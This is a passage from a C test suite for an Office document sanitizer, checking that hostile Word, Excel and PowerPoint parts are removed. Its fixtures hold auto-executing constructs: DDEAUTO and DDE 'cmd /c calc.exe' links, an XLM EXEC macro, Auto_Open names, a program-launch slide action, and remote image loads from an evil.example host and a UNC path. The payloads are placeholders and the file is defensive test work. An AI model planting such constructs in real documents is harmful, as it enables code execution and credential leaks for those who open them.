	g_assert_true(g_hash_table_contains(to, "word/media/image1.png"));
	doc = g_hash_table_lookup(to, "word/document.xml");
	xml = g_strndup(g_bytes_get_data(doc, NULL), g_bytes_get_size(doc));
	g_assert_nonnull(strstr(xml, "<v:imagedata r:id=\"rIdImg\"/>"));
	/* Harmless fields and kept links stay; the file link keeps its
	 * text but not its target. */
	g_assert_nonnull(strstr(xml, " PAGE "));
	g_assert_nonnull(strstr(xml, "HYPERLINK \"https://example.org/f\""));
	g_assert_nonnull(strstr(xml, "<w:hyperlink r:id=\"rIdH1\">"));
	g_assert_nonnull(strstr(xml, "<w:hyperlink r:id=\"rIdH3\">"));
	g_assert_nonnull(strstr(xml, "<w:hyperlink><w:r>"));
	g_assert_nonnull(strstr(xml, "FORMTEXT"));
	g_assert_null(find_in(to, "word/_rels/settings.xml.rels"));
	g_assert_null(find_in(to, "word/_rels/webSettings.xml.rels"));
	expect_stable(&ctx, r.data);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);

	/* Links not kept: no external relationship at all. */
	ctx.keep_hyperlinks = FALSE;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_true(has_id(&r, MG_CDR_RM_LINKS));
	to = zip_read(r.data, NULL);
	check_parts(ti, to);
	check_external(to, FALSE);
	assert_absent(to, gone);
	g_assert_null(find_in(to, "example.org"));
	g_assert_null(find_in(to, "TargetMode"));
	expect_stable(&ctx, r.data);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_hash_table_unref(ti);
	g_bytes_unref(in);
}

/* A kept web link serves hyperlinks only: a picture pointing at it would
 * fetch it.  VML attributes holding a URL or a UNC path go. */
static void
test_link_misuse(void)
{
	static const char doc[] = DOC_OPEN P(
	    "<w:r><w:drawing><a:blip r:link=\"rId3\"/></w:drawing></w:r>")
	    P("<w:hyperlink r:id=\"rId3\">" RUN("Kept link") "</w:hyperlink>")
	        P("<w:r><w:pict><v:shape><v:imagedata "
	          "src=\"\\\\evil\\x.png\" o:href=\"file:///C:/x.png\"/>"
	          "</v:shape><v:shape href=\"https://example.org/s\"/>"
	          "<v:shape href=\"file:///C:/y\"/></w:pict></w:r>") DOC_CLOSE;
	const struct member m[] = {
	    {"[Content_Types].xml", DOCX_CT(""), -1},
	    {"_rels/.rels", PKG_RELS("word/document.xml"), -1},
	    {"word/document.xml", doc, -1},
	    {"word/_rels/document.xml.rels",
	        RELS_OPEN XRL("rId3", REL("hyperlink"), "https://example.org/")
	            RELS_CLOSE,
	        -1},
	    {"docProps/core.xml", CORE, -1},
	};
	GBytes *in = zip_build(m, G_N_ELEMENTS(m));
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GHashTable *ti, *to;
	g_autofree char *xml = NULL;
	GBytes *b;

	ctx_init(&ctx, &lim);
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_true(has_id(&r, MG_CDR_RM_EXTERNAL));
	ti = zip_read(in, NULL);
	to = zip_read(r.data, NULL);
	check_parts(ti, to);
	check_external(to, TRUE);
	b = g_hash_table_lookup(to, "word/document.xml");
	xml = g_strndup(g_bytes_get_data(b, NULL), g_bytes_get_size(b));
	g_assert_nonnull(strstr(xml, "<a:blip/>"));
	g_assert_nonnull(strstr(xml, "<w:hyperlink r:id=\"rId3\">"));
	g_assert_nonnull(strstr(xml, "href=\"https://example.org/s\""));
	g_assert_null(strstr(xml, "evil"));
	g_assert_null(strstr(xml, "file:"));
	expect_stable(&ctx, r.data);
	g_hash_table_unref(ti);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

/* Strict OOXML (ISO 29500) namespaces are handled like transitional. */
static void
test_strict_namespaces(void)
{
#define SW "http://purl.oclc.org/ooxml/wordprocessingml/main"
	static const char doc[] = XML_DECL
	    "<w:document xmlns:w=\"" SW
	    "\"><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r>"
	    "<w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Strict "
	    "result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    "</w:p></w:body></w:document>";
	const struct member m[] = {
	    {"[Content_Types].xml", DOCX_CT(""), -1},
	    {"_rels/.rels",
	        RELS_OPEN RL("rId1",
	            "http://purl.oclc.org/ooxml/officeDocument/relationships/"
	            "officeDocument",
	            "word/document.xml") RELS_CLOSE,
	        -1},
	    {"word/document.xml", doc, -1},
	};
	GBytes *in = zip_build(m, G_N_ELEMENTS(m));
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GHashTable *ti, *to;

	ctx_init(&ctx, &lim);
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_true(has_id(&r, MG_CDR_RM_DDE));
	ti = zip_read(in, NULL);
	to = zip_read(r.data, NULL);
	check_parts(ti, to);
	assert_absent(to, hostile);
	g_hash_table_unref(ti);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
#undef SW
}

/* ---- Excel ---- */

static const char workbook[] = XML_DECL
    "<workbook xmlns=\"" X_NS "\" xmlns:r=\"" R_NS "\">"
    "<workbookPr codeName=\"ThisWorkbook\"/><bookViews><workbookView "
    "activeTab=\"2\" firstSheet=\"0\"/></bookViews><sheets>"
    "<sheet name=\"Macro1\" sheetId=\"3\" r:id=\"rId1\"/>"
    "<sheet name=\"Data\" sheetId=\"1\" r:id=\"rId2\"/>"
    "<sheet name=\"Other Sheet\" sheetId=\"2\" r:id=\"rId3\"/></sheets>"
    "<externalReferences><externalReference r:id=\"rId4\"/>"
    "</externalReferences><definedNames>"
    "<definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
    "<definedName name=\"Auto_Close2\">Data!$A$1</definedName>"
    "<definedName name=\"Runner\" xlm=\"1\">Data!$A$2</definedName>"
    "<definedName name=\"MacroRef\">Macro1!$B$1</definedName>"
    "<definedName name=\"LocalName\" localSheetId=\"2\">'Other "
    "Sheet'!$A$1</definedName>"
    "<definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">"
    "Data!$A$1:$B$2</definedName>"
    "<definedName name=\"ExtName\">[1]Sheet1!$A$1</definedName>"
    "<definedName name=\"Keep\">Data!$A$1:$A$3</definedName>"
    "</definedNames><calcPr calcId=\"1\"/></workbook>";

static const char sheet1[] = XML_DECL
    "<worksheet xmlns=\"" X_NS "\" xmlns:r=\"" R_NS "\" xmlns:mc=\"" MC_NS
    "\" xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/"
    "2009/9/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v>"
    "</c><c r=\"B1\"><f>[1]!'/c calc.exe'</f><v>0</v></c></row><row "
    "r=\"2\"><c r=\"A2\"><f t=\"shared\" ref=\"A2:A3\" si=\"0\">"
    "[1]Sheet1!A1*2</f><v>4</v></c></row><row r=\"3\"><c r=\"A3\"><f "
    "t=\"shared\" si=\"0\"/><v>6</v></c><c r=\"B3\"><f>SUM(Table1[2019])"
    "</f><v>1</v></c><c r=\"C3\"><f>\"[1]text\"&amp;A1</f><v>0</v></c>"
    "</row></sheetData><hyperlinks><hyperlink ref=\"A1\" r:id=\"rIdL\"/>"
    "<hyperlink ref=\"A2\" r:id=\"rIdF\"/></hyperlinks>"
    "<drawing r:id=\"rIdD\"/><legacyDrawing r:id=\"rIdV\"/>"
    "<mc:AlternateContent><mc:Choice Requires=\"x14\"><controls>"
    "<mc:AlternateContent><mc:Choice Requires=\"x14\"><control "
    "shapeId=\"1025\" r:id=\"rIdC\" name=\"CommandButton1\"/></mc:Choice>"
    "</mc:AlternateContent></controls></mc:Choice></mc:AlternateContent>"
    "<oleObjects><oleObject progId=\"Package\" shapeId=\"1026\" "
    "r:id=\"rIdO\"/></oleObjects></worksheet>";

static const char vml_bad[] =
    "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" "
    "xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape>"
    "<x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!Evil"
    "</x:FmlaMacro></x:ClientData><div>line<br>next</div></v:shape></xml>";

/* clang-format off */
static const char xlsm_types[] = CT_OPEN
    OVR("/xl/workbook.xml",
	"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    DEF("bin", "application/vnd.ms-office.vbaProject")
    DEF("vml", OXD "vmlDrawing")
    OVR("/xl/worksheets/sheet1.xml", OXD "spreadsheetml.worksheet+xml")
    OVR("/xl/worksheets/sheet2.xml", OXD "spreadsheetml.worksheet+xml")
    OVR("/xl/macrosheets/sheet1.xml",
	"application/vnd.ms-excel.macrosheet+xml")
    OVR("/xl/sharedStrings.xml", OXD "spreadsheetml.sharedStrings+xml")
    OVR("/xl/externalLinks/externalLink1.xml",
	OXD "spreadsheetml.externalLink+xml")
    OVR("/xl/connections.xml", OXD "spreadsheetml.connections+xml")
    OVR("/xl/calcChain.xml", OXD "spreadsheetml.calcChain+xml")
    OVR("/xl/drawings/drawing1.xml", OXD "drawing+xml")
    OVR("/xl/queryTables/queryTable1.xml", OXD "spreadsheetml.queryTable+xml")
    OVR("/xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    CT_CLOSE;
static const char xlsm_book_rels[] = RELS_OPEN
    RL("rId1", MSREL("xlMacrosheet"), "macrosheets/sheet1.xml")
    RL("rId2", REL("worksheet"), "worksheets/sheet1.xml")
    RL("rId3", REL("worksheet"), "worksheets/sheet2.xml")
    RL("rId4", REL("externalLink"), "externalLinks/externalLink1.xml")
    RL("rId5", REL("sharedStrings"), "sharedStrings.xml")
    RL("rId6", REL("connections"), "connections.xml")
    RL("rId7", MSREL("vbaProject"), "vbaProject.bin")
    RL("rId8", REL("calcChain"), "calcChain.xml")
    RELS_CLOSE;
static const char xlsm_sheet_rels[] = RELS_OPEN
    XRL("rIdL", REL("hyperlink"), "http://example.org/")
    XRL("rIdF", REL("hyperlink"), "file:///C:/x.xls")
    RL("rIdD", REL("drawing"), "../drawings/drawing1.xml")
    RL("rIdV", REL("vmlDrawing"), "../drawings/vmlDrawing1.vml")
    RL("rIdC", REL("control"), "../activeX/activeX1.xml")
    RL("rIdO", REL("oleObject"), "../embeddings/oleObject1.bin")
    RELS_CLOSE;
/* clang-format on */

static GBytes *
hostile_xlsm(const char *vml)
{
	const struct member m[] = {
	    {"[Content_Types].xml", xlsm_types, -1},
	    {"_rels/.rels", PKG_RELS("xl/workbook.xml"), -1},
	    {"xl/workbook.xml", workbook, -1},
	    {"xl/_rels/workbook.xml.rels", xlsm_book_rels, -1},
	    {"xl/macrosheets/sheet1.xml",
	        XML_DECL "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft."
	                 "com/office/excel/2006/main\" xmlns=\"" X_NS
	                 "\"><sheetData><row r=\"1\"><c r=\"A1\"><f>"
	                 "EXEC(\"calc.exe\")</f></c></row></sheetData>"
	                 "</xm:macrosheet>",
	        -1},
	    {"xl/worksheets/sheet1.xml", sheet1, -1},
	    {"xl/worksheets/_rels/sheet1.xml.rels", xlsm_sheet_rels, -1},
	    {"xl/worksheets/sheet2.xml",
	        XML_DECL "<worksheet xmlns=\"" X_NS "\"><sheetData><row "
	                 "r=\"1\"><c r=\"A1\" t=\"s\"><v>1</v></c></row>"
	                 "</sheetData></worksheet>",
	        -1},
	    {"xl/worksheets/_rels/sheet2.xml.rels",
	        RELS_OPEN RL("rId1", REL("queryTable"),
	            "../queryTables/queryTable1.xml") RELS_CLOSE,
	        -1},
	    {"xl/queryTables/queryTable1.xml",
	        XML_DECL "<queryTable xmlns=\"" X_NS "\" name=\"q\" "
	                 "connectionId=\"1\"/>",
	        -1},
	    {"xl/sharedStrings.xml",
	        XML_DECL "<sst xmlns=\"" X_NS "\" count=\"2\" "
	                 "uniqueCount=\"2\"><si><t>Cell text</t></si><si><t>"
	                 "Second sheet</t></si></sst>",
	        -1},
	    {"xl/externalLinks/externalLink1.xml",
	        XML_DECL "<externalLink xmlns=\"" X_NS "\"><ddeLink "
	                 "ddeService=\"cmd\" ddeTopic=\"/c calc.exe\">"
	                 "<ddeItems><ddeItem name=\"A0\" advise=\"1\"/>"
	                 "</ddeItems></ddeLink></externalLink>",
	        -1},
	    {"xl/connections.xml",
	        XML_DECL "<connections xmlns=\"" X_NS "\"><connection id=\"1\" "
	                 "name=\"q\" type=\"1\"><dbPr connection=\"DSN=evil\"/>"
	                 "</connection></connections>",
	        -1},
	    {"xl/vbaProject.bin", "VBA-PAYLOAD", -1},
	    {"xl/calcChain.xml",
	        XML_DECL "<calcChain xmlns=\"" X_NS "\"><c r=\"B1\" i=\"2\"/>"
	                 "</calcChain>",
	        -1},
	    {"xl/drawings/drawing1.xml",
	        XML_DECL
	        "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats."
	        "org/drawingml/2006/spreadsheetDrawing\" xmlns:a=\"" A_NS
	        "\"><xdr:twoCellAnchor><xdr:sp macro=\"[0]!EvilMacro\" "
	        "textlink=\"\"><xdr:txBody><a:p><a:r><a:t>Button "
	        "text</a:t></a:r></a:p></xdr:txBody></xdr:sp>"
	        "</xdr:twoCellAnchor></xdr:wsDr>",
	        -1},
	    {"xl/drawings/vmlDrawing1.vml", vml, -1},
	    {"xl/activeX/activeX1.xml",
	        XML_DECL "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/"
	                 "office/2006/activeX\"/>",
	        -1},
	    {"xl/embeddings/oleObject1.bin", "OLE-PAYLOAD", -1},
	    {"docProps/core.xml", CORE, -1},
	};

	return zip_build(m, G_N_ELEMENTS(m));
}

static void
test_excel_hostile(void)
{
	static const char *const gone[] = {"macrosheet", "EXEC(", "Auto_Close",
	    "Runner", "MacroRef", "Print_Area", "ExtName", "externalReference",
	    "connection", "queryTable", "calcChain", "EvilMacro", "FmlaMacro",
	    "[1]!", "[1]Sheet1", "controls", "CommandButton", "PAYLOAD",
	    "file:///", "Macro1", NULL};
	GBytes *in = hostile_xlsm(vml_bad);
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GHashTable *ti, *to;
	g_autofree char *wb = NULL, *s1 = NULL;
	GBytes *b;

	ctx_init(&ctx, &lim);
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_cmpstr(r.extension, ==, "xlsx");
	g_assert_cmpstr(r.mime_type, ==, OXD "spreadsheetml.sheet");
	g_assert_true(has_id(&r, MG_CDR_RM_XLM));
	g_assert_true(has_id(&r, MG_CDR_RM_VBA));
	g_assert_true(has_id(&r, MG_CDR_RM_DATACONN));
	g_assert_true(has_id(&r, MG_CDR_RM_DDE));
	g_assert_true(has_id(&r, MG_CDR_RM_ACTIVEX));
	g_assert_true(has_id(&r, MG_CDR_RM_OLE));
	g_assert_true(has_id(&r, MG_CDR_RM_LINKS));
	ti = zip_read(in, NULL);
	to = zip_read(r.data, NULL);
	check_parts(ti, to);
	assert_absent(to, hostile);
	assert_absent(to, gone);
	check_external(to, TRUE);
	/* The VML part (not well-formed, as Excel writes some) is gone and
	 * so is the reference to it. */
	g_assert_false(
	    g_hash_table_contains(to, "xl/drawings/vmlDrawing1.vml"));
	b = g_hash_table_lookup(to, "xl/workbook.xml");
	wb = g_strndup(g_bytes_get_data(b, NULL), g_bytes_get_size(b));
	b = g_hash_table_lookup(to, "xl/worksheets/sheet1.xml");
	s1 = g_strndup(g_bytes_get_data(b, NULL), g_bytes_get_size(b));
	/* Sheets after the removed one move down one place. */
	g_assert_nonnull(strstr(wb, "<sheet name=\"Data\""));
	g_assert_nonnull(strstr(wb, "<sheet name=\"Other Sheet\""));
	g_assert_nonnull(strstr(wb, "localSheetId=\"1\""));
	g_assert_nonnull(strstr(wb, "activeTab=\"1\""));
	g_assert_nonnull(strstr(wb, "name=\"Keep\""));
	g_assert_nonnull(strstr(wb, "name=\"LocalName\""));
	/* Cached values stay; harmless formulas too. */
	g_assert_nonnull(strstr(s1, "<c r=\"B1\"><v>0</v></c>"));
	g_assert_nonnull(strstr(s1, "<c r=\"A3\"><v>6</v></c>"));
	g_assert_nonnull(strstr(s1, "SUM(Table1[2019])"));
	g_assert_nonnull(strstr(s1, "\"[1]text\"&amp;A1"));
	g_assert_nonnull(strstr(s1, "<hyperlink ref=\"A2\"/>"));
	g_assert_null(strstr(s1, "AlternateContent"));
	g_assert_null(strstr(s1, "legacyDrawing"));
	expect_stable(&ctx, r.data);
	g_hash_table_unref(ti);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

/* A well-formed VML part stays, without its macro and OLE object. */
static void
test_excel_vml(void)
{
	static const char vml[] =
	    "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" "
	    "xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
	    "xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape>"
	    "<x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!Evil"
	    "</x:FmlaMacro></x:ClientData></v:shape><o:OLEObject "
	    "ProgID=\"Package\"/></xml>";
	GBytes *in = hostile_xlsm(vml);
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GHashTable *to;

	ctx_init(&ctx, &lim);
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	to = zip_read(r.data, NULL);
	g_assert_true(g_hash_table_contains(to, "xl/drawings/vmlDrawing1.vml"));
	g_assert_null(find_in(to, "FmlaMacro"));
	g_assert_null(find_in(to, "OLEObject"));
	g_assert_nonnull(find_in(to, "legacyDrawing"));
	check_parts(NULL, to);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

/* A workbook of macro sheets only has nothing left to deliver. */
static void
test_excel_only_macros(void)
{
	const struct member m[] = {
	    {"[Content_Types].xml",
	        CT_OPEN OVR("/xl/workbook.xml",
	            "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
	            OVR("/xl/macrosheets/sheet1.xml",
	                "application/vnd.ms-excel.macrosheet+xml") CT_CLOSE,
	        -1},
	    {"_rels/.rels", PKG_RELS("xl/workbook.xml"), -1},
	    {"xl/workbook.xml",
	        XML_DECL "<workbook xmlns=\"" X_NS "\" xmlns:r=\"" R_NS
	                 "\"><sheets><sheet name=\"M\" sheetId=\"1\" "
	                 "r:id=\"rId1\"/></sheets></workbook>",
	        -1},
	    {"xl/_rels/workbook.xml.rels",
	        RELS_OPEN RL("rId1", MSREL("xlMacrosheet"),
	            "macrosheets/sheet1.xml") RELS_CLOSE,
	        -1},
	    {"xl/macrosheets/sheet1.xml",
	        XML_DECL "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft."
	                 "com/office/excel/2006/main\"/>",
	        -1},
	};
	GBytes *in = zip_build(m, G_N_ELEMENTS(m));
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;

	ctx_init(&ctx, &lim);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);
}

/* ---- PowerPoint ---- */

static const char slide[] = XML_DECL
    "<p:sld xmlns:p=\"" P_NS "\" xmlns:r=\"" R_NS "\" xmlns:a=\"" A_NS
    "\"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"T\">"
    "<a:hlinkClick r:id=\"rIdProg\" action=\"ppaction://program\"/>"
    "</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody>"
    "<a:bodyPr/><a:p><a:r><a:rPr><a:hlinkClick r:id=\"\" "
    "action=\"ppaction://macro?name=Evil\"/></a:rPr><a:t>Slide title</a:t>"
    "</a:r></a:p><a:p><a:r><a:rPr><a:hlinkClick r:id=\"rIdWeb\"/></a:rPr>"
    "<a:t>Web link</a:t></a:r></a:p><a:p><a:r><a:rPr><a:hlinkClick "
    "r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"/>"
    "</a:rPr><a:t>Next</a:t></a:r></a:p></p:txBody></p:sp>"
    "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"4\" name=\"O\"/>"
    "<p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/>"
    "<a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/"
    "presentationml/2006/ole\"><p:oleObj r:id=\"rIdOle\" "
    "progId=\"Package\"><p:embed/></p:oleObj></a:graphicData></a:graphic>"
    "</p:graphicFrame><p:pic><p:nvPicPr><p:cNvPr id=\"5\" name=\"V\"/>"
    "<p:cNvPicPr/><p:nvPr><a:videoFile r:link=\"rIdVid\"/></p:nvPr>"
    "</p:nvPicPr><p:blipFill><a:blip r:link=\"rIdExtImg\"/></p:blipFill>"
    "<p:spPr/></p:pic></p:spTree></p:cSld><p:controls><p:control "
    "name=\"X\" spid=\"1\" r:id=\"rIdAx\"/></p:controls></p:sld>";

/* clang-format off */
static const char pptm_types[] = CT_OPEN
    OVR("/ppt/presentation.xml",
	"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    OVR("/ppt/slides/slide1.xml", OXD "presentationml.slide+xml")
    DEF("bin", "application/vnd.ms-office.vbaProject")
    DEF("mp4", "video/mp4")
    CT_CLOSE;
static const char pptm_slide_rels[] = RELS_OPEN
    XRL("rIdProg", REL("hyperlink"), "file:///C:/Windows/System32/calc.exe")
    XRL("rIdWeb", REL("hyperlink"), "https://example.org/")
    RL("rIdOle", REL("oleObject"), "../embeddings/oleObject1.bin")
    RL("rIdVid", REL("video"), "../media/media1.mp4")
    XRL("rIdExtImg", REL("image"), "http://evil.example/i.png")
    RL("rIdAx", REL("control"), "../activeX/activeX1.xml")
    RELS_CLOSE;
/* clang-format on */

static void
test_powerpoint_hostile(void)
{
	const struct member m[] = {
	    {"[Content_Types].xml", pptm_types, -1},
	    {"_rels/.rels", PKG_RELS("ppt/presentation.xml"), -1},
	    {"ppt/presentation.xml",
	        XML_DECL "<p:presentation xmlns:p=\"" P_NS "\" xmlns:r=\"" R_NS
	                 "\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/>"
	                 "</p:sldIdLst><p:sldSz cx=\"9144000\" "
	                 "cy=\"6858000\"/></p:presentation>",
	        -1},
	    {"ppt/_rels/presentation.xml.rels",
	        RELS_OPEN RL("rId2", REL("slide"), "slides/slide1.xml") RL(
	            "rId3", MSREL("vbaProject"), "vbaProject.bin") RELS_CLOSE,
	        -1},
	    {"ppt/slides/slide1.xml", slide, -1},
	    {"ppt/slides/_rels/slide1.xml.rels", pptm_slide_rels, -1},
	    {"ppt/vbaProject.bin", "VBA-PAYLOAD", -1},
	    {"ppt/embeddings/oleObject1.bin", "OLE-PAYLOAD", -1},
	    {"ppt/media/media1.mp4", "MP4-PAYLOAD", -1},
	    {"ppt/activeX/activeX1.xml",
	        XML_DECL "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/"
	                 "office/2006/activeX\"/>",
	        -1},
	    {"docProps/core.xml", CORE, -1},
	};
	static const char *const gone[] = {"ppaction://program",
	    "ppaction://macro", "calc", "evil", "activeX", "media1",
	    "videoFile", "p:controls", "PAYLOAD", NULL};
	GBytes *in = zip_build(m, G_N_ELEMENTS(m));
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GHashTable *ti, *to;
	g_autofree char *xml = NULL;
	GBytes *b;

	ctx_init(&ctx, &lim);
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_cmpstr(r.extension, ==, "pptx");
	g_assert_true(has_id(&r, MG_CDR_RM_ACTIONS));
	g_assert_true(has_id(&r, MG_CDR_RM_VBA));
	g_assert_true(has_id(&r, MG_CDR_RM_OLE));
	g_assert_true(has_id(&r, MG_CDR_RM_MULTIMEDIA));
	g_assert_true(has_id(&r, MG_CDR_RM_EXTERNAL));
	g_assert_true(has_id(&r, MG_CDR_RM_ACTIVEX));
	ti = zip_read(in, NULL);
	to = zip_read(r.data, NULL);
	check_parts(ti, to);
	assert_absent(to, hostile);
	assert_absent(to, gone);
	check_external(to, TRUE);
	b = g_hash_table_lookup(to, "ppt/slides/slide1.xml");
	xml = g_strndup(g_bytes_get_data(b, NULL), g_bytes_get_size(b));
	g_assert_nonnull(strstr(xml, "<p:oleObj progId=\"Package\">"));
	g_assert_nonnull(strstr(xml, "<a:hlinkClick r:id=\"rIdWeb\"/>"));
	g_assert_nonnull(strstr(xml, "hlinkshowjump"));
	g_assert_nonnull(strstr(xml, "<a:blip/>"));
	expect_stable(&ctx, r.data);
	g_hash_table_unref(ti);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

/* ---- images handed to the walk ---- */

static GBytes *
picture_docx(const char *ext, const char *ct)
{
	/* CT_OPEN declares png already. */
	g_autofree char *types =
	    strcmp(ext, "png") == 0
	        ? g_strdup(DOCX_CT(""))
	        : g_strdup_printf(DOCX_CT("<Default Extension=\"%s\" "
	                                  "ContentType=\"%s\"/>"),
	              ext, ct);
	g_autofree char *rels = g_strdup_printf(RELS_OPEN
	    "<Relationship Id=\"rId4\" Type=\"%s\" Target=\"media/"
	    "image1.%s\"/>" RELS_CLOSE,
	    REL("image"), ext);
	g_autofree char *name = g_strdup_printf("word/media/image1.%s", ext);
	const struct member m[] = {
	    {"[Content_Types].xml", types, -1},
	    {"_rels/.rels", PKG_RELS("word/document.xml"), -1},
	    {"word/document.xml", clean_doc, -1},
	    {"word/_rels/document.xml.rels", rels, -1},
	    {name, png, sizeof(png)},
	    {"docProps/core.xml", CORE, -1},
	};

	return zip_build(m, G_N_ELEMENTS(m));
}

static void
test_images(void)
{
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GBytes *in = picture_docx("png", "image/png");
	GHashTable *to;
	GBytes *img;

	ctx_init(&ctx, &lim);
	/* The walk refuses the picture: it goes, its reference too. */
	ctx.nested = nested_refuse;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_true(has_id(&r, MG_CDR_RM_EMBEDDED));
	to = zip_read(r.data, NULL);
	g_assert_false(g_hash_table_contains(to, "word/media/image1.png"));
	g_assert_null(find_in(to, "rId4"));
	g_assert_nonnull(find_in(to, "<a:blip/>"));
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);

	/* The walk gives back another format: the content type follows. */
	ctx.nested = nested_to_jpeg;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_cmpuint(r.removed->len, ==, 0);
	to = zip_read(r.data, NULL);
	img = g_hash_table_lookup(to, "word/media/image1.png");
	g_assert_nonnull(img);
	g_assert_cmpmem(g_bytes_get_data(img, NULL), g_bytes_get_size(img),
	    jpeg, sizeof(jpeg));
	g_assert_nonnull(find_in(to, "ContentType=\"image/jpeg\""));
	check_parts(NULL, to);
	expect_stable(&ctx, r.data);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);

	/* Not an image at all: left out. */
	ctx.nested = nested_garbage;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_true(has_id(&r, MG_CDR_RM_EMBEDDED));
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);

	/* EMF and WMF never reach the walk. */
	in = picture_docx("emf", "image/x-emf");
	ctx.nested = nested_accept;
	nested_calls = 0;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_true(has_id(&r, MG_CDR_RM_EMBEDDED));
	g_assert_cmpuint(nested_calls, ==, 0);
	to = zip_read(r.data, NULL);
	g_assert_null(find_in(to, "emf"));
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

/* Non-ASCII part names, percent-encoded in the target, and a part in
 * UTF-16: both survive, the latter written anew as UTF-8. */
static void
test_names_encodings(void)
{
	static const char doc16_text[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:document "
	    "xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\" xmlns:a=\"" A_NS
	    "\"><w:body><w:p><w:r><w:t>\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e "
	    "text</w:t></w:r><w:r><w:drawing><a:blip r:embed=\"rId1\"/>"
	    "</w:drawing></w:r></w:p></w:body></w:document>";
	glong n16 = 0;
	g_autofree gunichar2 *u16 =
	    g_utf8_to_utf16(doc16_text, -1, NULL, &n16, NULL);
	g_autofree guint8 *doc16 = g_malloc(2 + 2 * (gsize)n16);
	const struct member m[] = {
	    {"[Content_Types].xml", DOCX_CT(""), -1},
	    {"_rels/.rels", PKG_RELS("word/document.xml"), -1},
	    {"word/document.xml", doc16, 2 + 2 * n16},
	    {"word/_rels/document.xml.rels",
	        RELS_OPEN RL("rId1", REL("image"),
	            "media/%E7%94%BB%E5%83%8F.png") RELS_CLOSE,
	        -1},
	    {"word/media/\xe7\x94\xbb\xe5\x83\x8f.png", png, sizeof(png)},
	    {"docProps/core.xml", CORE, -1},
	};
	GBytes *in;
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GHashTable *ti, *to;
	GBytes *d;
	glong i;

	doc16[0] = 0xff;
	doc16[1] = 0xfe;
	for (i = 0; i < n16; i++) {
		doc16[2 + 2 * i] = (guint8)(u16[i] & 0xff);
